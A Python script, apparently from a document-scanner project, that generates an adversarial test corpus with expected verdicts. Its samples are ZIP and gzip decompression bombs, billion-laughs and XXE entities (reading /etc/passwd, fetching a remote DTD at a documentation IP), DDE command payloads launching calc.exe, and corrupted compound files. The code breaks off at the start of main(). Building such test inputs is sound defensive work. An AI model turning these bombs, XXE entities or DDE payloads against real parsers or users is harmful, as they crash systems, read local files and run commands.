#!/usr/bin/env python3
"""Write ddescan's adversarial corpus: inputs built to crash, hang or exhaust a scanner.

    python corpus/adversarial.py                    # corpus/adversarial/** + manifest.json
    python corpus/adversarial.py --large DIR        # also the test-time giants, into DIR

Every sample is small on disk (bombs are small files that inflate); the two giants (a
part that inflates to 2 GiB, a sheet with a million formulas) are a few megabytes each and
are built at test time instead of being committed (`LARGE`). Each sample carries its
expectation in manifest.json: the verdict and the exact set of problem kinds the scanner
must report. tests/test_adversarial.py runs every sample through the isolated runner
(scanner.isolation) and checks those, the worst time and the peak memory per file.

Fuzzer finds live next to these, in regressions/ (raw inputs from tools/fuzz.py, listed in
regressions.json); this script never touches them.

Payloads are harmless (calc.exe, example.invalid, 203.0.113.0/24); the output is the
same bytes on every run (fixed ZIP dates, seeded pseudo-random bytes).
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import random
import shutil
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import docwriter
import mailwriter

HERE = Path(__file__).resolve().parent
OUT = HERE / "adversarial"
MANIFEST_VERSION = 1
ZIP_EPOCH = (1980, 1, 1, 0, 0, 0)
CFB_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
GROUPS = ("bombs", "cfb", "empty", "magic", "mime", "rtf", "sheets", "xml")
DDE_CSV = b"=cmd|'/c calc.exe'!A0\r\n"
DDE_FIELD = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc.exe"'


@dataclass(frozen=True)
class Sample:
    path: str
    description: str
    verdict: str
    problems: tuple[str, ...]
    build: Callable[[], bytes]
    # Built at test time (too big to commit), never written into the corpus folder.
    large: bool = False


def zip_bytes(
    members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED, level: int = 9
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_EPOCH)
            info.compress_type = method
            info.external_attr = 0o600 << 16
            archive.writestr(info, data, compresslevel=level)
    return out.getvalue()


CONTENT_TYPES_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CONTENT_TYPES_XLSX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
RELS_XLSX = RELS_DOCX.replace(b"word/document.xml", b"xl/workbook.xml")
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData>"
)
SHEET_TAIL = b"</sheetData></worksheet>"
DDE_ROW = b'<row r="2"><c r="A2"><f>cmd|\'/c calc.exe\'!A0</f></c></row>'


def document_xml(body: bytes, prolog: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + prolog
        + b"<w:document "
        + W_NS
        + b"><w:body>"
        + body
        + b"</w:body></w:document>"
    )


def dde_paragraph() -> bytes:
    return (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
        b'"preserve"> ' + DDE_FIELD.encode() + b" </w:instrText></w:r><w:r><w:fldChar "
        b'w:fldCharType="end"/></w:r></w:p>'
    )


def docx(document: bytes, content_types: bytes = CONTENT_TYPES_DOCX) -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", content_types),
            ("_rels/.rels", RELS_DOCX),
            ("word/document.xml", document),
        ]
    )


def xlsx(sheet: bytes, extra: list[tuple[str, bytes]] | None = None) -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", CONTENT_TYPES_XLSX),
            ("_rels/.rels", RELS_XLSX),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/worksheets/sheet1.xml", sheet),
            *(extra or []),
        ]
    )


# Compression bombs.


def _gf2_times(matrix: list[int], vector: int) -> int:
    total = 0
    row = 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B): zlib's crc32_combine, as GF(2) matrix
    powers of the one-zero-bit operator (so the CRC of gigabytes costs microseconds)."""
    if length2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def repeated_deflate(chunk: bytes, count: int) -> tuple[bytes, int, int]:
    """A raw deflate stream of `chunk` * `count`, its CRC-32 and size, built in O(1) work.

    After a full flush the compressor forgets its history, so every flushed block of the
    same input compresses to the same bytes: one block is written once and repeated.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    if again != block:
        raise AssertionError("flushed deflate blocks differ; cannot repeat them")
    stream = block * count + compressor.flush(zlib.Z_FINISH)
    # Binary powers: crc(chunk * 2k) from crc(chunk * k), then the set bits of `count`.
    pieces: list[tuple[int, int]] = []
    remaining = count
    power_crc, power_len = zlib.crc32(chunk), len(chunk)
    while remaining:
        if remaining & 1:
            pieces.append((power_crc, power_len))
        power_crc = crc32_combine(power_crc, power_crc, power_len)
        power_len *= 2
        remaining >>= 1
    crc, size = pieces[0]
    for piece_crc, piece_len in pieces[1:]:
        crc = crc32_combine(crc, piece_crc, piece_len)
        size += piece_len
    return stream, crc, size


def zip_raw(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP of already-deflated members: (name, raw deflate, crc32, uncompressed size).

    Sizes past 4 GiB get ZIP64 extra fields (APPNOTE 4.5.3)."""
    body = bytearray()
    directory = bytearray()
    for name, raw, crc, size in members:
        encoded = name.encode()
        offset = len(body)
        zip64 = size >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, len(raw)) if zip64 else b""
        small_size = 0xFFFFFFFF if zip64 else size
        small_raw = 0xFFFFFFFF if zip64 else len(raw)
        version = 45 if zip64 else 20
        body += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, version, 0, 8, 0, 0x21, crc, small_raw, small_size,
            len(encoded), len(extra),
        )  # fmt: skip
        body += encoded + extra + raw
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, 0, 8, 0, 0x21, crc, small_raw,
            small_size, len(encoded), len(extra), 0, 0, 0, 0o600 << 16, offset,
        )  # fmt: skip
        directory += encoded + extra
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(body), 0
    )
    return bytes(body + directory + end)


def ratio_bomb_docx() -> bytes:
    """word/document.xml inflates to 2 GiB of spaces inside a valid document element."""
    count = 2048
    chunk = b" " * (1024 * 1024)
    head = document_xml(b"")[: -len(b"</w:body></w:document>")]
    stream, crc, size = repeated_deflate(chunk, count)
    # A valid part: the header text, then the spaces; the closing tags never come within
    # any limit, so the cut-off is what the scanner must report.
    head_raw = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    raw = head_raw.compress(head) + head_raw.flush(zlib.Z_FULL_FLUSH)
    # Concatenating two raw deflate streams needs the first without its final block.
    raw += stream
    total_crc = crc32_combine(zlib.crc32(head), crc, size)
    small = [
        (name, _deflate(data), zlib.crc32(data), len(data))
        for name, data in (("[Content_Types].xml", CONTENT_TYPES_DOCX), ("_rels/.rels", RELS_DOCX))
    ]
    return zip_raw([*small, ("word/document.xml", raw, total_crc, len(head) + size)])


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def sheet_bomb_xlsx() -> bytes:
    """A worksheet that inflates to 64 MiB: whitespace between two cells (ratio ~1000:1)."""
    cell = b'<row r="1"><c r="A1"><f>SUM(1,2)</f></c></row>'
    return xlsx(SHEET_HEAD + cell + b" " * (64 * 1024 * 1024) + SHEET_TAIL)


def overlap_zip() -> bytes:
    """256 directory entries that all point at one 16 MiB member (4 GiB in all)."""
    kernel = b"\x00" * (16 * 1024 * 1024)
    raw = _deflate(kernel)
    crc = zlib.crc32(kernel)
    name = b"kernel.csv"
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), len(kernel), len(name), 0
    )
    body = local + name + raw
    entry = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), len(kernel),
        len(name), 0, 0, 0, 0, 0o600 << 16, 0,
    ) + name  # fmt: skip
    count = 256
    directory = entry * count
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + end


def nested_zip_bomb() -> bytes:
    """42.zip's shape: 16 copies of the layer below, six layers over a 1 MiB kernel (16 TiB
    in all), each layer compressing its identical copies to almost nothing."""
    layer = zip_bytes([("kernel.csv", b"0," * (512 * 1024))])
    for depth in range(6):
        layer = zip_bytes([(f"layer{depth}-{n:02}.zip", layer) for n in range(16)])
    return layer


def self_nesting_zip() -> bytes:
    """A ZIP inside a ZIP, 64 deep, with a DDE CSV next to the first inner ZIP."""
    layer = zip_bytes([("deepest.csv", DDE_CSV)])
    for depth in range(63, 0, -1):
        layer = zip_bytes([(f"nest{depth:02}.zip", layer)], method=zipfile.ZIP_STORED)
    return zip_bytes([("nest00.zip", layer), ("payload.csv", DDE_CSV)], zipfile.ZIP_STORED)


def gzip_bomb() -> bytes:
    return gzip.compress(b"a," * (32 * 1024 * 1024), compresslevel=9, mtime=0)


def zip_claims_huge_member() -> bytes:
    """A member whose headers claim 4 GiB (ZIP64) but whose data is a few bytes."""
    raw = _deflate(DDE_CSV)
    return zip_raw([("huge.csv", raw, zlib.crc32(DDE_CSV), 4 * 1024**3)])


# XML entity attacks.

LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>"
)


def laughs_body(entity: bytes = b"&lol9;") -> bytes:
    return b"<w:p><w:r><w:t>" + entity + b"</w:t></w:r></w:p>" + dde_paragraph()


def xxe_prolog(system: bytes) -> bytes:
    return b'<!DOCTYPE d [<!ENTITY xxe SYSTEM "' + system + b'">]>'


def billion_laughs_docx() -> bytes:
    return docx(document_xml(laughs_body(), LAUGHS))


def billion_laughs_content_types() -> bytes:
    types = CONTENT_TYPES_DOCX.replace(b"?><Types", b"?>" + LAUGHS + b"<Types", 1)
    types = types.replace(b'Extension="xml"', b'Extension="xml" x="&lol9;"', 1)
    return docx(document_xml(dde_paragraph()), types)


def xxe_file_docx() -> bytes:
    return docx(document_xml(laughs_body(b"&xxe;"), xxe_prolog(b"file:///etc/passwd")))


def xxe_http_xlsx() -> bytes:
    sheet = SHEET_HEAD.replace(
        b"?><worksheet", b"?>" + xxe_prolog(b"http://203.0.113.7/x.dtd") + b"<worksheet", 1
    )
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    return xlsx(sheet + cell + DDE_ROW + SHEET_TAIL)


def parameter_entity_xlsx() -> bytes:
    """Out-of-band XXE with a parameter entity that would fetch a remote DTD."""
    prolog = b'<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://203.0.113.7/evil.dtd"> %remote;]>'
    sheet = SHEET_HEAD.replace(b"?><worksheet", b"?>" + prolog + b"<worksheet", 1)
    return xlsx(sheet + DDE_ROW + SHEET_TAIL)


def billion_laughs_word2003() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>' + LAUGHS + b'<?mso-application progid="Word.'
        b'Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/'
        b'wordml"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:wordDocument>'
    )


def xxe_flat_opc() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>' + xxe_prolog(b"file:///etc/passwd") + b"<?mso-"
        b'application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft'
        b'.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml"><pkg:xmlData>'
        b"<w:document " + W_NS + b"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body>"
        b"</w:document></pkg:xmlData></pkg:part></pkg:package>"
    )


def billion_laughs_spreadsheet2003() -> bytes:
    return (
        b'<?xml version="1.0"?>' + LAUGHS + b'<?mso-application progid="Excel.Sheet"?>'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas'
        b'-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table><Row><Cell ss:Formula'
        b'="=cmd|\'/c calc.exe\'!A0"><Data ss:Type="String">&lol9;</Data></Cell></Row></Table>'
        b"</Worksheet></Workbook>"
    )


def deep_xml_docx() -> bytes:
    """100,000 nested elements in the main part (libxml2 refuses past 256 by default)."""
    depth = 100_000
    return docx(document_xml(b"<w:sdt>" * depth + b"</w:sdt>" * depth + dde_paragraph()))


def billion_laughs_odt() -> bytes:
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>' + LAUGHS + b"<office:document-content xmlns:"
        b'office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names'
        b':tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>&lol9;</text:p>'
        b"</office:text></office:body></office:document-content>"
    )
    return zip_bytes(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", content),
        ],
        method=zipfile.ZIP_STORED,
    )


# RTF.


def rtf_nested_groups() -> bytes:
    depth = 100_000
    field = b"{\\field{\\*\\fldinst " + DDE_FIELD.encode() + b"}{\\fldrslt x}}"
    return b"{\\rtf1\\ansi " + b"{" * depth + field + b"}" * depth + b"}"


def rtf_unclosed_groups() -> bytes:
    return b"{\\rtf1\\ansi " + b"{" * 100_000


def rtf_bin_2gb() -> bytes:
    field = b"{\\field{\\*\\fldinst " + DDE_FIELD.encode() + b"}{\\fldrslt x}}"
    return b"{\\rtf1\\ansi " + field + b"{\\bin2147483647 ab}}"


def rtf_objdata_huge_size() -> bytes:
    """An \\objdata whose OLE1 header claims a 2 GiB native size."""
    header = struct.pack("<II", 0x00000501, 2) + struct.pack("<I", 9) + b"Package\x00\x00"
    header += struct.pack("<II", 0, 0) + struct.pack("<I", 0x7FFFFFFF)
    return (
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
        + header.hex().encode()
        + b"41414141}}}"
    )


# Compound files ([MS-CFB]): a valid .doc from corpus/docwriter.py, then one field broken.


def _doc() -> bytearray:
    text = "Invoice attached. " * 400 + docwriter.field(" " + DDE_FIELD + " ", "") + "\r"
    return bytearray(docwriter.doc_file(docwriter.Stories(text)))


def _u32(data: bytearray, offset: int) -> int:
    return int(struct.unpack_from("<I", data, offset)[0])


def _entry_offset(data: bytearray, name: str) -> int:
    """File offset of the directory entry called `name` (directory in one sector chain)."""
    sector = _u32(data, 0x30)
    fat_sector = _u32(data, 0x4C)
    for _ in range(64):
        start = (sector + 1) * 512
        for slot in range(4):
            entry = start + slot * 128
            length = struct.unpack_from("<H", data, entry + 64)[0]
            if data[entry : entry + max(0, length - 2)].decode("utf-16-le", "replace") == name:
                return entry
        sector = _u32(data, (fat_sector + 1) * 512 + 4 * sector)
    raise KeyError(name)


def _fat_offset(data: bytearray, sector: int) -> int:
    return (_u32(data, 0x4C) + 1) * 512 + 4 * sector


def cfb_fat_loop() -> bytes:
    data = _doc()
    entry = _entry_offset(data, "WordDocument")
    first = _u32(data, entry + 0x74)
    # The stream's second sector points back at its first: a chain that never ends.
    struct.pack_into("<I", data, _fat_offset(data, first + 1), first)
    return bytes(data)


def cfb_chain_past_end() -> bytes:
    data = _doc()
    entry = _entry_offset(data, "WordDocument")
    first = _u32(data, entry + 0x74)
    struct.pack_into("<I", data, _fat_offset(data, first), 0x00FFFFF0)
    return bytes(data)


def cfb_claims_2gb_stream() -> bytes:
    data = _doc()
    entry = _entry_offset(data, "WordDocument")
    struct.pack_into("<Q", data, entry + 0x78, 0x7FFFFFFF)
    return bytes(data)


def cfb_directory_loop() -> bytes:
    """The root's child names itself as its own left sibling."""
    data = _doc()
    root = _entry_offset(data, "Root Entry")
    child = _u32(data, root + 0x4C)
    entry = (_u32(data, 0x30) + 1) * 512 + child * 128
    struct.pack_into("<I", data, entry + 0x44, child)
    return bytes(data)


def cfb_directory_chain_loop() -> bytes:
    data = _doc()
    directory = _u32(data, 0x30)
    struct.pack_into("<I", data, _fat_offset(data, directory), directory)
    return bytes(data)


def cfb_huge_fat_count() -> bytes:
    data = _doc()
    struct.pack_into("<I", data, 0x2C, 0x7FFFFFFF)
    return bytes(data)


def cfb_minifat_loop() -> bytes:
    """A mini-stream chain that loops (the table stream is small enough to be mini)."""
    data = _doc()
    entry = _entry_offset(data, "1Table")
    first = _u32(data, entry + 0x74)
    minifat = _u32(data, 0x3C)
    struct.pack_into("<I", data, (minifat + 1) * 512 + 4 * first, first)
    return bytes(data)


# Sheets.


def million_formulas_xlsx() -> bytes:
    """1,000,000 formula cells with their references, as Excel writes them (about 10:1)."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><f>SUM(B%d,1)</f></c></row>' % (n, n, n)
        for n in range(1, 1_000_001)
    )
    return zip_bytes(
        [
            ("[Content_Types].xml", CONTENT_TYPES_XLSX),
            ("_rels/.rels", RELS_XLSX),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/worksheets/sheet1.xml", SHEET_HEAD + rows + SHEET_TAIL),
        ],
        level=1,
    )


def many_dde_formulas_xlsx() -> bytes:
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><f>cmd|\'/c calc.exe\'!A0</f></c></row>' % (n, n)
        for n in range(1, 5001)
    )
    return xlsx(SHEET_HEAD + rows + SHEET_TAIL)


# Mail.


def mime_nested_multipart() -> bytes:
    depth = 1000
    inner = mailwriter.mime_attachment("invoice.csv", "text/csv", DDE_CSV)
    for level in range(depth, 0, -1):
        boundary = f"b{level}"
        inner = (
            f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n--{boundary}\r\n'.encode()
            + inner
            + f"\r\n--{boundary}--\r\n".encode()
        )
    return mailwriter.MAIL_HEADERS.encode() + b"Subject: nested\r\n" + inner


def mime_nested_messages() -> bytes:
    """message/rfc822 inside message/rfc822, a thousand deep."""
    inner = mailwriter.mime_message(
        "bottom", mailwriter.mime_attachment("invoice.csv", "text/csv", DDE_CSV)
    )
    for _ in range(1000):
        inner = (
            b"From: a@example.invalid\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: message/rfc822\r\n\r\n" + inner
        )
    return inner


def mime_many_parts() -> bytes:
    """20,000 parts of one character each (headerless parts are text/plain, RFC 2046 5.1)."""
    body = b"".join(b"--p\r\n\r\nx\r\n" for _ in range(20_000)) + b"--p--\r\n"
    return (
        mailwriter.MAIL_HEADERS.encode()
        + b'Subject: many parts\r\nContent-Type: multipart/mixed; boundary="p"\r\n\r\n'
        + body
    )


# Random bytes behind each format's magic.


def noise(label: str, size: int = 4096) -> bytes:
    rng = random.Random(label)
    return bytes(rng.getrandbits(8) for _ in range(size))


# Name -> (signature, verdict, problem kinds). Random bytes are text to the lenient text
# formats (RTF, MIME, HTML): nothing to find, nothing broken. Binary formats must say
# "malformed"; SYLK behind binary noise is not text at all, so not inspected.
MAGIC: dict[str, tuple[bytes, str, tuple[str, ...]]] = {
    "zip.docx": (b"PK\x03\x04", "error", ("malformed",)),
    "cfb.doc": (CFB_MAGIC, "error", ("malformed",)),
    "cfb.xls": (CFB_MAGIC, "error", ("malformed",)),
    "cfb.msg": (CFB_MAGIC, "error", ("malformed",)),
    "rtf.rtf": (b"{\\rtf1", "clean", ()),
    "gzip.gz": (b"\x1f\x8b\x08\x00", "error", ("malformed",)),
    "tnef.dat": (b"\x78\x9f\x3e\x22", "error", ("malformed",)),
    "eml.eml": (
        b"From: a@example.invalid\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n",
        "clean",
        (),
    ),
    "word2003.xml": (
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">',
        "error",
        ("malformed",),
    ),
    "html.html": (b"<html><body>", "clean", ()),
    "sylk.slk": (b"ID;PWXL;N;E\r\n", "clean", ("unsupported",)),
}


def magic_sample(name: str) -> Callable[[], bytes]:
    return lambda: MAGIC[name][0] + noise(name)


SAMPLES: tuple[Sample, ...] = (
    Sample(
        "bombs/ratio-2gib.docx",
        "word/document.xml inflates to 2 GiB of spaces from a 2 MB file (valid CRC)",
        "error",
        ("limit",),
        ratio_bomb_docx,
        large=True,
    ),
    Sample(
        "bombs/sheet-64mib.xlsx",
        "a worksheet of 64 MiB (whitespace), about 1000:1",
        "error",
        ("limit",),
        sheet_bomb_xlsx,
    ),
    Sample(
        "bombs/overlap-4gib.zip",
        "256 central-directory entries sharing one 16 MiB member (4 GiB from 16 KB)",
        "error",
        ("limit",),
        overlap_zip,
    ),
    Sample(
        "bombs/nested-16x6.zip",
        "42.zip-style: six layers of 16 identical ZIPs over a 1 MiB kernel (16 TiB)",
        "error",
        ("limit",),
        nested_zip_bomb,
    ),
    Sample(
        "bombs/self-nesting-64.zip",
        "a ZIP in a ZIP 64 deep, DDE CSV beside the first inner ZIP",
        "malicious",
        ("limit",),
        self_nesting_zip,
    ),
    Sample(
        "bombs/gzip-64mib.csv.gz",
        "gzip of 64 MiB of CSV",
        "error",
        ("limit",),
        gzip_bomb,
    ),
    Sample(
        "bombs/zip-claims-4gib.zip",
        "a member whose ZIP64 headers claim 4 GiB for 24 bytes of data",
        "malicious",
        (),
        zip_claims_huge_member,
    ),
    Sample(
        "xml/billion-laughs.docx",
        "nested entities in word/document.xml (a DDE field beside them)",
        "error",
        ("malformed",),
        billion_laughs_docx,
    ),
    Sample(
        "xml/billion-laughs-content-types.docx",
        "nested entities in [Content_Types].xml",
        "error",
        ("malformed",),
        billion_laughs_content_types,
    ),
    Sample(
        "xml/xxe-file.docx",
        "external entity file:///etc/passwd in word/document.xml (never read)",
        "error",
        ("malformed",),
        xxe_file_docx,
    ),
    Sample(
        "xml/xxe-http.xlsx",
        "external entity http://203.0.113.7/ in a worksheet (never fetched)",
        "error",
        ("malformed",),
        xxe_http_xlsx,
    ),
    Sample(
        "xml/xxe-parameter-entity.xlsx",
        "a parameter entity that would load a remote DTD (never fetched)",
        "error",
        ("malformed",),
        parameter_entity_xlsx,
    ),
    Sample(
        "xml/billion-laughs-word2003.xml",
        "nested entities in a Word 2003 XML document",
        "error",
        ("malformed",),
        billion_laughs_word2003,
    ),
    Sample(
        "xml/xxe-flat-opc.xml",
        "external entity in a Flat OPC document",
        "error",
        ("malformed",),
        xxe_flat_opc,
    ),
    Sample(
        "xml/billion-laughs-spreadsheet2003.xml",
        "nested entities in SpreadsheetML 2003 beside a DDE formula",
        "error",
        ("malformed",),
        billion_laughs_spreadsheet2003,
    ),
    Sample(
        "xml/deep-100k.docx",
        "100,000 nested w:sdt elements before a DDE field",
        "error",
        ("malformed",),
        deep_xml_docx,
    ),
    Sample(
        "xml/billion-laughs.odt",
        "nested entities in an OpenDocument content.xml",
        "error",
        ("malformed",),
        billion_laughs_odt,
    ),
    Sample(
        "rtf/nested-100k.rtf",
        "a DDEAUTO field inside 100,000 nested groups",
        "malicious",
        (),
        rtf_nested_groups,
    ),
    Sample(
        "rtf/unclosed-100k.rtf",
        "100,000 groups opened and never closed",
        "clean",
        (),
        rtf_unclosed_groups,
    ),
    Sample(
        "rtf/bin-2gb.rtf",
        "a \\bin that claims 2 GB of binary data after a DDEAUTO field",
        "malicious",
        (),
        rtf_bin_2gb,
    ),
    Sample(
        "rtf/objdata-claims-2gb.rtf",
        "an OLE1 object whose native data claims 2 GiB",
        "clean",
        (),
        rtf_objdata_huge_size,
    ),
    Sample(
        "cfb/fat-loop.doc",
        "the WordDocument stream's FAT chain loops back on itself",
        "suspicious",
        (),
        cfb_fat_loop,
    ),
    Sample(
        "cfb/chain-past-end.doc",
        "the WordDocument stream's FAT chain points past the end of the file",
        "error",
        ("malformed",),
        cfb_chain_past_end,
    ),
    Sample(
        "cfb/claims-2gb-stream.doc",
        "the WordDocument directory entry claims a 2 GB stream",
        "error",
        ("malformed",),
        cfb_claims_2gb_stream,
    ),
    Sample(
        "cfb/directory-loop.doc",
        "a directory entry that is its own left sibling",
        "error",
        ("malformed",),
        cfb_directory_loop,
    ),
    Sample(
        "cfb/directory-chain-loop.doc",
        "the directory's sector chain loops",
        "malicious",
        (),
        cfb_directory_chain_loop,
    ),
    Sample(
        "cfb/fat-count-2g.doc",
        "the header claims 2^31 FAT sectors",
        "malicious",
        (),
        cfb_huge_fat_count,
    ),
    Sample(
        "cfb/minifat-loop.doc",
        "the table stream's mini-FAT chain loops",
        "malicious",
        (),
        cfb_minifat_loop,
    ),
    Sample(
        "sheets/million-formulas.xlsx",
        "1,000,000 ordinary formulas in one worksheet (62 MB of XML)",
        "clean",
        (),
        million_formulas_xlsx,
        large=True,
    ),
    Sample(
        "sheets/dde-formulas-5000.xlsx",
        "5,000 DDE formulas: more findings than the limit",
        "malicious",
        ("limit",),
        many_dde_formulas_xlsx,
    ),
    Sample(
        "mime/multipart-1000-deep.eml",
        "multipart inside multipart, 1000 deep, DDE CSV at the bottom",
        "error",
        ("limit",),
        mime_nested_multipart,
    ),
    Sample(
        "mime/message-1000-deep.eml",
        "message/rfc822 inside message/rfc822, 1000 deep, DDE CSV at the bottom",
        "error",
        ("limit",),
        mime_nested_messages,
    ),
    Sample(
        "mime/parts-20000.eml",
        "20,000 text parts",
        "error",
        ("limit",),
        mime_many_parts,
    ),
    Sample("empty/empty.bin", "0 bytes", "clean", (), lambda: b""),
    Sample("empty/empty.docx", "0 bytes under a .docx name", "clean", (), lambda: b""),
    *(
        Sample(
            f"magic/{name}",
            f"4 KiB of pseudo-random bytes behind the {name.split('.')[0]} signature",
            verdict,
            problems,
            magic_sample(name),
        )
        for name, (_, verdict, problems) in MAGIC.items()
    ),
)


def manifest() -> dict[str, object]:
    return {
        "version": MANIFEST_VERSION,
        "samples": [
            {
                "path": sample.path,
                "description": sample.description,
                "expect": {"verdict": sample.verdict, "problems": list(sample.problems)},
                "generated_at_test_time": sample.large,
            }
            for sample in sorted(SAMPLES, key=lambda s: s.path)
        ],
    }


def write(out: Path, large: Path | None = None) -> None:
    for group in GROUPS:
        shutil.rmtree(out / group, ignore_errors=True)
    for sample in SAMPLES:
        if sample.large:
            if large is None:
                continue
            target = large / sample.path
        else:
            target = out / sample.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(sample.build())
    (out / "manifest.json").write_text(json.dumps(manifest(), indent=2, sort_keys=True) + "\n")


def main() -> None:
